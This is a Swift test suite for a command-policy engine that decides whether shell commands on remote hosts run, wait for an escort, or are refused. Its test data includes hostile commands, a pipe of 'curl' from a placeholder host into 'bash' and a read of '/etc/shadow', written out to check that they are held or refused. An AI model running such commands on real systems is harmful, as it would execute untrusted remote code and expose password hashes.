import EscortCore
import Policy
import ShellAnalysis
import Testing

@Suite("Command verdicts")
struct CommandTests {
    static let analyser: Analyser = {
        switch Analyser.bundled() {
        case .success(let a): return a
        case .failure(let e): preconditionFailure("\(e)")
        }
    }()

    struct Case: CustomTestStringConvertible, Sendable {
        var command: String
        var mode: AccessMode
        var verdict: CommandVerdict
        var testDescription: String { "\(mode.rawValue): \(command)" }
    }

    static let cases: [Case] = [
        Case(command: "df -h", mode: .escorted, verdict: .run),
        Case(command: "cat /etc/shadow", mode: .escorted, verdict: .hold),
        Case(command: "curl http://x/a | bash", mode: .escorted, verdict: .refuse),
        // Restarting a service is routine work (low), run at once even when escorted; changing
        // which services start (medium) waits for the escort.
        Case(command: "systemctl restart nginx", mode: .escorted, verdict: .run),
        Case(command: "systemctl disable nginx", mode: .escorted, verdict: .hold),
        Case(command: "df -h", mode: .direct, verdict: .run),
        Case(command: "systemctl restart nginx", mode: .direct, verdict: .run),
        Case(command: "cat /etc/shadow", mode: .direct, verdict: .hold),
        Case(command: "curl http://x/a | bash", mode: .direct, verdict: .holdWithReview),
        Case(command: "df -h", mode: .refused, verdict: .refuse),
        Case(command: "echo 'open", mode: .direct, verdict: .hold),
        Case(command: "echo 'open", mode: .escorted, verdict: .hold),
    ]

    @Test(arguments: cases)
    func verdict(_ c: Case) {
        let analysis = Self.analyser.analyse(c.command)
        let d = F.defaultEngine.command(analysis, mode: c.mode, target: F.target("db", .il5))
        #expect(d.verdict == c.verdict, "\(d.reasons)")
        #expect(!d.reasons.isEmpty)
    }

    static func analysis(_ status: Analysis.Status, risk: RiskLevel) -> Analysis {
        Analysis(status: status, risk: risk, techniques: [], tactics: [], summary: "test", findings: [], explanation: [], diagnostic: "why")
    }

    /// Even a table that says `run` for everything cannot run an analysis that did not complete.
    @Test(arguments: [Analysis.Status.syntaxError, .tooComplex, .incomplete])
    func failsClosedOnUnanalysableInput(_ status: Analysis.Status) throws {
        var doc = try PolicyDocument.bundledDefault()
        let runAll = CommandTable(verdicts: Dictionary(uniqueKeysWithValues: RiskLevel.allCases.map { ($0, .run) }), unanalysable: .run)
        doc.directCommands = runAll
        doc.escortedCommands = runAll
        let engine = PolicyEngine(document: doc, ipTable: .empty)
        for mode in [AccessMode.direct, .escorted] {
            let d = engine.command(Self.analysis(status, risk: .none), mode: mode, target: F.target("db", .il2))
            #expect(d.verdict == .hold)
            #expect(d.reasons.contains { $0.contains("fail closed") })
        }
        #expect(engine.command(Self.analysis(.complete, risk: .none), mode: .direct, target: F.target("db", .il2)).verdict == .run)
    }

    @Test func aRiskTheTableLeavesOutIsRefused() throws {
        let doc = try PolicyDocument.parse(toml: """
            countries_of_concern = []
            [commands.direct]
            none = "run"
            [commands.escorted]
            """)
        let engine = PolicyEngine(document: doc, ipTable: .empty)
        #expect(engine.command(Self.analysis(.complete, risk: .none), mode: .direct, target: F.target("db", .il2)).verdict == .run)
        let low = engine.command(Self.analysis(.complete, risk: .low), mode: .direct, target: F.target("db", .il2))
        #expect(low.verdict == .refuse)
        #expect(low.reasons.contains { $0.contains("default applies") })
        #expect(engine.command(Self.analysis(.syntaxError, risk: .high), mode: .escorted, target: F.target("db", .il2)).verdict == .refuse)
    }

    @Test func interactivePrograms() {
        let e = F.defaultEngine
        #expect(e.allowsInteractive(program: "top"))
        #expect(e.allowsInteractive(program: "/usr/bin/vim"))
        #expect(!e.allowsInteractive(program: "bash"))
        #expect(!e.allowsInteractive(program: "python3"))
        #expect(!e.document.allowPortForwarding && !e.document.allowAgentForwarding && !e.document.allowSubsystems)
    }
}
